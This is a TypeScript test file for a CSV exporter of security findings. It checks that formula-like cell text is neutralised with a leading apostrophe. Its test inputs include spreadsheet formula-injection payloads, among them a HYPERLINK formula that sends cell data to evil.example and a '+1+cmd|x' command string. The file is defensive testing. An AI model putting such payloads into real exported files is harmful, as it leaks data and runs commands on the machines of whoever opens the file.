import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { expect, test } from 'vitest';
import { csvFile } from '#functions/workers/exports/csv.ts';
import { findingView } from '#shared/findings/view/view.ts';
import { START } from '#shared/platform/exports/records-file.ts';
import { newId } from '#shared/platform/runtime/ids.ts';
import { findingDraft } from '../../../support/findings.ts';

const at = '2026-01-05T08:00:00.000Z';
const stamps = { version: 1, createdAt: at, updatedAt: at, createdBy: { kind: 'system', id: 'x', name: 'x' } as const };
const findingWith = (title: string, tags: string[]) =>
  findingView({ ...findingDraft(at, { title, tags }), id: newId(), ...stamps }, undefined);

function fileOf(title: string, tags: string[]): string {
  const { head, add } = csvFile({ columns: ['title', 'tags', 'priority'] });
  return head + add({ ...START }, findingWith(title, tags));
}

const rowsIn = (file: string): string[][] => parse(file);

test.each([
  ['=HYPERLINK("http://evil.example?x="&A1,"see")', `'=HYPERLINK("http://evil.example?x="&A1,"see")`],
  ['+1+cmd|x', "'+1+cmd|x"],
  ['-2+3', "'-2+3"],
  ['@SUM(A1)', "'@SUM(A1)"],
  ['\t=1', "'\t'=1"],
  ['＝1+1', "'＝1+1"],
  ['a;=1+1', "a;'=1+1"],
  ['a,b "quoted"\nand = more', 'a,b "quoted"\nand = more'],
])('a spreadsheet opens %j as a text', (title, expected) => {
  expect(rowsIn(fileOf(title, ['=x', 'y']))[1]).toEqual([expected, "'=x; y", '39']);
});

test('no text of a report becomes a formula, whichever separator a spreadsheet takes', () => {
  const units = ['=', '+', '-', '@', '\t', '\r', '\n', '"', ';', ',', "'", 'a', ' ', '＝'];
  const nasty = fc.string({ unit: fc.constantFrom(...units) });
  fc.assert(
    fc.property(nasty, fc.array(nasty), (title, tags) => {
      const file = fileOf(title, tags);
      const cells = [rowsIn(file).flat(), file.split(/[;\r\n]/), file.split(/[\t\r\n]/)].flat();
      expect(cells.filter((cell) => /^"*[=+\-@＝]/.test(cell))).toEqual([]);
    }),
  );
});

test('a CSV gives texts back as they were, apart from the apostrophe of formulas', () => {
  const harmless = fc.string({ unit: fc.constantFrom('"', ',', 'a', ' ', 'é', '💥') });
  fc.assert(
    fc.property(harmless, (title) => {
      expect(rowsIn(fileOf(title, []))[1]?.[0]).toBe(title);
    }),
  );
});

test('a file has the columns that fit a table; long texts and the numbers of the service are asked for', () => {
  expect(String(csvFile({}).head).trim().split(',')).toEqual([
    ...['id', 'title', 'severity', 'toolSeverity', 'status', 'statusReason', 'priority', 'dueAt'],
    ...['asset.type', 'asset.name', 'asset.zone', 'location', 'ref', 'tool', 'ruleId', 'cves', 'cwes'],
    ...['cvssScore', 'cvssVector', 'epss', 'kev', 'component.name', 'component.version', 'component.purl'],
    ...['component.fixedVersions', 'assignee.name', 'tags', 'firstSeenAt', 'lastSeenAt', 'occurrences'],
    ...['reopenedCount', 'acknowledgedAt', 'fixedAt', 'acceptedUntil', 'remediation', 'references'],
    ...['acceptance.approver.name', 'acceptance.until', 'owner.name', 'applications', 'asset.tags'],
  ]);
});
